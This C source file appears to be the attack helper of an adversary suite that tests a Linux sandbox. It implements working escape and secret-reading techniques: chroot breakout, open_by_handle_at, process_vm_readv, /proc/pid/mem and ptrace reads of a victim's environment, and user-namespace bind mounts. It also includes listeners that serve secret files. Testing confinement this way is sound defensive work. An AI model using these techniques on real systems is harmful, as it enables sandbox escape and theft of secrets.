// SPDX-License-Identifier: GPL-2.0
/*
 * al-attack: the syscall-level techniques of the adversary suite, and the
 * outside fixtures they aim at (a victim process, Unix listeners). Each
 * attack prints whatever it obtained; the runner judges leaks by outcome
 * (secrets in the output, changes outside), never by this exit code.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <arpa/inet.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static int say(const char *what, int rc)
{
	if (rc < 0)
		printf("%s: %s\n", what, strerror(errno));
	else
		printf("%s: ok\n", what);
	return rc < 0 ? 1 : 0;
}

static void cat_fd(int fd)
{
	char buf[4096];
	ssize_t n;

	while ((n = read(fd, buf, sizeof(buf))) > 0)
		fwrite(buf, 1, (size_t)n, stdout);
	fflush(stdout);
}

static int cat_path(const char *p)
{
	int fd = open(p, O_RDONLY);

	if (fd < 0)
		return say(p, -1);
	cat_fd(fd);
	close(fd);
	return 0;
}

/* "@name" is an abstract socket. */
static socklen_t un_addr(struct sockaddr_un *a, const char *p)
{
	memset(a, 0, sizeof(*a));
	a->sun_family = AF_UNIX;
	if (p[0] == '@') {
		strncpy(a->sun_path + 1, p + 1, sizeof(a->sun_path) - 2);
		return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(p + 1));
	}
	strncpy(a->sun_path, p, sizeof(a->sun_path) - 1);
	return sizeof(*a);
}

/* Outside fixture: hands the secret file's content to whoever connects. */
static int listen_cmd(const char *path, const char *secret_file, int type)
{
	struct sockaddr_un a;
	socklen_t len = un_addr(&a, path);
	int s = socket(AF_UNIX, type, 0);
	char buf[256];

	unlink(path);
	if (s < 0 || bind(s, (struct sockaddr *)&a, len))
		return say("bind", -1);
	chmod(path, 0777);
	if (type == SOCK_DGRAM) {
		for (;;) {
			ssize_t n = recv(s, buf, sizeof(buf) - 1, 0);

			if (n > 0)
				printf("DGRAM-RECEIVED %.*s\n", (int)n, buf), fflush(stdout);
		}
	}
	listen(s, 8);
	for (;;) {
		int c = accept(s, NULL, NULL), fd;

		if (c < 0)
			continue;
		printf("CONNECTED\n");
		fflush(stdout);
		fd = open(secret_file, O_RDONLY);
		if (fd >= 0) {
			ssize_t n = read(fd, buf, sizeof(buf));

			if (n > 0 && write(c, buf, (size_t)n) < 0)
				perror("write");
			close(fd);
		}
		close(c);
	}
}

static int connect_cmd(const char *path, int type)
{
	struct sockaddr_un a;
	socklen_t len = un_addr(&a, path);
	int s = socket(AF_UNIX, type, 0);

	if (type == SOCK_DGRAM)
		return say("sendto", (int)sendto(s, "hello", 5, 0, (struct sockaddr *)&a, len));
	if (say("connect", connect(s, (struct sockaddr *)&a, len)))
		return 1;
	cat_fd(s);
	return 0;
}

#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

/* "127.0.0.1", "::1", "::ffff:127.0.0.1" and a port, as a sockaddr. */
static socklen_t in_addr(struct sockaddr_storage *ss, const char *addr, const char *port)
{
	struct sockaddr_in *in = (struct sockaddr_in *)ss;
	struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)ss;

	memset(ss, 0, sizeof(*ss));
	if (inet_pton(AF_INET6, addr, &in6->sin6_addr) == 1) {
		in6->sin6_family = AF_INET6;
		in6->sin6_port = htons((unsigned short)atoi(port));
		return sizeof(*in6);
	}
	in->sin_family = AF_INET;
	in->sin_port = htons((unsigned short)atoi(port));
	inet_pton(AF_INET, addr, &in->sin_addr);
	return sizeof(*in);
}

/* Outside fixture: a TCP service (IPv4 and IPv6) that hands out a secret. */
static int tcp_listen_cmd(const char *port, const char *secret_file)
{
	struct sockaddr_in6 a = { .sin6_family = AF_INET6, .sin6_addr = IN6ADDR_ANY_INIT };
	int s = socket(AF_INET6, SOCK_STREAM, 0), zero = 0, one = 1;
	char buf[256];

	a.sin6_port = htons((unsigned short)atoi(port));
	setsockopt(s, IPPROTO_IPV6, IPV6_V6ONLY, &zero, sizeof(zero));
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	setsockopt(s, IPPROTO_TCP, 23 /* TCP_FASTOPEN */, &one, sizeof(one));
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) || listen(s, 8))
		return say("bind", -1);
	for (;;) {
		int c = accept(s, NULL, NULL), fd;

		if (c < 0)
			continue;
		printf("CONNECTED\n");
		fd = open(secret_file, O_RDONLY);
		if (fd >= 0) {
			ssize_t n = read(fd, buf, sizeof(buf));

			if (n > 0 && write(c, buf, (size_t)n) < 0)
				perror("write");
			close(fd);
		}
		close(c);
	}
}

/* connect(), or TCP Fast Open (a sendto that connects), then read. */
static int tcp_connect_cmd(const char *addr, const char *port, bool fastopen)
{
	struct sockaddr_storage ss;
	socklen_t len = in_addr(&ss, addr, port);
	int s = socket(ss.ss_family, SOCK_STREAM, 0);

	if (fastopen) {
		if (say("sendto", (int)sendto(s, "hi", 2, MSG_FASTOPEN, (struct sockaddr *)&ss, len)))
			return 1;
	} else if (say("connect", connect(s, (struct sockaddr *)&ss, len))) {
		return 1;
	}
	cat_fd(s);
	return 0;
}

/* A bare io_uring (no liburing): one submission, waited for. */
struct uring {
	int fd;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static int uring_init(struct uring *u)
{
	struct io_uring_params p;
	char *sq, *cq;

	memset(&p, 0, sizeof(p));
	u->fd = (int)syscall(__NR_io_uring_setup, 4, &p);
	if (u->fd < 0)
		return -1;
	sq = mmap(NULL, p.sq_off.array + p.sq_entries * sizeof(unsigned), PROT_READ | PROT_WRITE,
		  MAP_SHARED | MAP_POPULATE, u->fd, IORING_OFF_SQ_RING);
	cq = mmap(NULL, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe),
		  PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, u->fd, IORING_OFF_CQ_RING);
	u->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_POPULATE, u->fd, IORING_OFF_SQES);
	if (sq == MAP_FAILED || cq == MAP_FAILED || u->sqes == MAP_FAILED)
		return -1;
	u->sq_tail = (unsigned *)(sq + p.sq_off.tail);
	u->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	u->sq_array = (unsigned *)(sq + p.sq_off.array);
	u->cq_head = (unsigned *)(cq + p.cq_off.head);
	u->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	u->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
}

/* Submits sqe and returns its result (>= 0, or -errno). */
static int uring_run(struct uring *u, const struct io_uring_sqe *sqe)
{
	unsigned tail = *u->sq_tail, idx = tail & *u->sq_mask, head;
	int res;

	u->sqes[idx] = *sqe;
	u->sq_array[idx] = idx;
	__atomic_store_n(u->sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (syscall(__NR_io_uring_enter, u->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	head = __atomic_load_n(u->cq_head, __ATOMIC_ACQUIRE);
	res = u->cqes[head & *u->cq_mask].res;
	__atomic_store_n(u->cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

static int uring_say(const char *what, int res)
{
	errno = res < 0 ? -res : 0;
	return say(what, res < 0 ? -1 : res);
}

/* The open happens in io_uring (an io-wq worker when it would block). */
static int uring_read_cmd(const char *path)
{
	struct io_uring_sqe sqe;
	struct uring u;
	int fd;

	if (say("io_uring_setup", uring_init(&u)))
		return 1;
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_OPENAT;
	sqe.fd = AT_FDCWD;
	sqe.addr = (unsigned long)path;
	sqe.open_flags = O_RDONLY;
	fd = uring_run(&u, &sqe);
	if (uring_say("io_uring openat", fd))
		return 1;
	cat_fd(fd);
	return 0;
}

static int uring_connect_cmd(const char *addr, const char *port)
{
	struct sockaddr_storage ss;
	socklen_t len = in_addr(&ss, addr, port);
	int s = socket(ss.ss_family, SOCK_STREAM, 0);
	struct io_uring_sqe sqe;
	struct uring u;

	if (say("io_uring_setup", uring_init(&u)))
		return 1;
	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_CONNECT;
	sqe.fd = s;
	sqe.addr = (unsigned long)&ss;
	sqe.off = len;
	if (uring_say("io_uring connect", uring_run(&u, &sqe)))
		return 1;
	cat_fd(s);
	return 0;
}

/* The victim's environment start, from /proc/<pid>/stat (field 48). */
static unsigned long env_start(pid_t pid)
{
	char p[64], buf[4096], *f;
	unsigned long v = 0;
	int fd, i;
	ssize_t n;

	snprintf(p, sizeof(p), "/proc/%d/stat", pid);
	fd = open(p, O_RDONLY);
	if (fd < 0)
		return 0;
	n = read(fd, buf, sizeof(buf) - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = 0;
	f = strrchr(buf, ')');
	for (i = 2; f && i < 48; i++)
		f = strchr(f + 1, ' ');
	if (f)
		v = strtoul(f + 1, NULL, 10);
	return v;
}

static int vmread_cmd(pid_t pid)
{
	char buf[4096];
	struct iovec l = { buf, sizeof(buf) }, r;
	ssize_t n;

	r.iov_base = (void *)env_start(pid);
	r.iov_len = sizeof(buf);
	n = process_vm_readv(pid, &l, 1, &r, 1, 0);
	if (n < 0)
		return say("process_vm_readv", -1);
	fwrite(buf, 1, (size_t)n, stdout);
	return 0;
}

static int procmem_cmd(pid_t pid)
{
	char p[64], buf[4096];
	int fd;
	ssize_t n;

	snprintf(p, sizeof(p), "/proc/%d/mem", pid);
	fd = open(p, O_RDONLY);
	if (fd < 0)
		return say(p, -1);
	n = pread(fd, buf, sizeof(buf), (off_t)env_start(pid));
	if (n < 0)
		return say("pread", -1);
	fwrite(buf, 1, (size_t)n, stdout);
	return 0;
}

static int ptrace_cmd(pid_t pid)
{
	long w;

	if (say("PTRACE_ATTACH", (int)ptrace(PTRACE_ATTACH, pid, 0, 0)))
		return 1;
	waitpid(pid, NULL, 0);
	w = ptrace(PTRACE_PEEKDATA, pid, (void *)env_start(pid), 0);
	fwrite(&w, sizeof(w), 1, stdout);
	return 0;
}

static int bpf_cmd(void)
{
	union bpf_attr attr;

	memset(&attr, 0, sizeof(attr));
	attr.map_type = BPF_MAP_TYPE_ARRAY;
	attr.key_size = 4;
	attr.value_size = 4;
	attr.max_entries = 1;
	return say("bpf(BPF_MAP_CREATE)", (int)syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof(attr)));
}

static void write_file(const char *p, const char *s)
{
	int fd = open(p, O_WRONLY);

	if (fd >= 0) {
		if (write(fd, s, strlen(s)) < 0)
			perror(p);
		close(fd);
	}
}

/* New user and mount namespaces, then bind the outside in and read it. */
static int userns_bind_cmd(const char *src, const char *dst, const char *file)
{
	char map[64], p[512];
	uid_t uid = getuid();
	gid_t gid = getgid();

	if (say("unshare(CLONE_NEWUSER|CLONE_NEWNS)", unshare(CLONE_NEWUSER | CLONE_NEWNS)))
		return 1;
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %u 1", uid);
	write_file("/proc/self/uid_map", map);
	snprintf(map, sizeof(map), "0 %u 1", gid);
	write_file("/proc/self/gid_map", map);
	if (say("mount --bind", mount(src, dst, NULL, MS_BIND, NULL)))
		return 1;
	snprintf(p, sizeof(p), "%s/%s", dst, file);
	return cat_path(p);
}

static int mount_bind_cmd(const char *src, const char *dst, const char *file)
{
	char p[512];

	if (say("mount --bind", mount(src, dst, NULL, MS_BIND, NULL)))
		return 1;
	snprintf(p, sizeof(p), "%s/%s", dst, file);
	return cat_path(p);
}

/* The classic: chroot into a subdirectory while keeping a handle above it. */
static int chroot_cmd(const char *sub, const char *target)
{
	int up = open(".", O_RDONLY | O_DIRECTORY);
	int i;

	if (say("chroot", chroot(sub)))
		return 1;
	if (fchdir(up) == 0)
		for (i = 0; i < 32; i++)
			if (chdir(".."))
				break;
	if (chroot("."))
		say("chroot(.)", -1);
	return cat_path(target);
}

static int handle_cmd(const char *mountdir, const char *path)
{
	struct file_handle *h = malloc(sizeof(*h) + 128);
	int mid, mfd, fd;

	h->handle_bytes = 128;
	if (say("name_to_handle_at", name_to_handle_at(AT_FDCWD, path, h, &mid, 0)))
		return 1;
	mfd = open(mountdir, O_RDONLY | O_DIRECTORY);
	fd = open_by_handle_at(mfd, h, O_RDONLY);
	if (say("open_by_handle_at", fd))
		return 1;
	cat_fd(fd);
	return 0;
}

/* Stands outside the cell with a secret in its environment and an open fd. */
static int victim_cmd(const char *secret_file, const char *pidfile)
{
	int fd = open(secret_file, O_RDONLY);
	FILE *f = fopen(pidfile, "w");

	(void)fd;
	if (f) {
		fprintf(f, "%d\n", getpid());
		fclose(f);
	}
	for (;;)
		pause();
	return 0;
}

int main(int argc, char **argv)
{
	const char *c = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IONBF, 0);
	if (!strcmp(c, "read") && argc == 3)
		return cat_path(argv[2]);
	if (!strcmp(c, "listen") && argc == 4)
		return listen_cmd(argv[2], argv[3], SOCK_STREAM);
	if (!strcmp(c, "dgram-listen") && argc == 3)
		return listen_cmd(argv[2], "/dev/null", SOCK_DGRAM);
	if (!strcmp(c, "connect") && argc == 3)
		return connect_cmd(argv[2], SOCK_STREAM);
	if (!strcmp(c, "dgram-send") && argc == 3)
		return connect_cmd(argv[2], SOCK_DGRAM);
	if (!strcmp(c, "tcp-listen") && argc == 4)
		return tcp_listen_cmd(argv[2], argv[3]);
	if (!strcmp(c, "tcp-connect") && argc == 4)
		return tcp_connect_cmd(argv[2], argv[3], false);
	if (!strcmp(c, "tcp-fastopen") && argc == 4)
		return tcp_connect_cmd(argv[2], argv[3], true);
	if (!strcmp(c, "uring-connect") && argc == 4)
		return uring_connect_cmd(argv[2], argv[3]);
	if (!strcmp(c, "uring-read") && argc == 3)
		return uring_read_cmd(argv[2]);
	if (!strcmp(c, "vmread") && argc == 3)
		return vmread_cmd(atoi(argv[2]));
	if (!strcmp(c, "procmem") && argc == 3)
		return procmem_cmd(atoi(argv[2]));
	if (!strcmp(c, "ptrace") && argc == 3)
		return ptrace_cmd(atoi(argv[2]));
	if (!strcmp(c, "kill") && argc == 4)
		return say("kill", kill(atoi(argv[2]), atoi(argv[3])));
	if (!strcmp(c, "bpf"))
		return bpf_cmd();
	if (!strcmp(c, "userns-bind") && argc == 5)
		return userns_bind_cmd(argv[2], argv[3], argv[4]);
	if (!strcmp(c, "mount-bind") && argc == 5)
		return mount_bind_cmd(argv[2], argv[3], argv[4]);
	if (!strcmp(c, "chroot") && argc == 4)
		return chroot_cmd(argv[2], argv[3]);
	if (!strcmp(c, "handle") && argc == 4)
		return handle_cmd(argv[2], argv[3]);
	if (!strcmp(c, "truncate") && argc == 3)
		return say("truncate", truncate(argv[2], 0));
	if (!strcmp(c, "setxattr") && argc == 4)
		return say("setxattr", setxattr(argv[2], argv[3], "x", 1, 0));
	if (!strcmp(c, "chown") && argc == 3)
		return say("chown", chown(argv[2], 0, 0));
	if (!strcmp(c, "mknod") && argc == 3)
		return say("mknod", mknod(argv[2], S_IFIFO | 0666, 0));
	if (!strcmp(c, "victim") && argc == 4)
		return victim_cmd(argv[2], argv[3]);
	fprintf(stderr, "usage: al-attack COMMAND ARGS (see adversary/attack.c)\n");
	return 2;
}
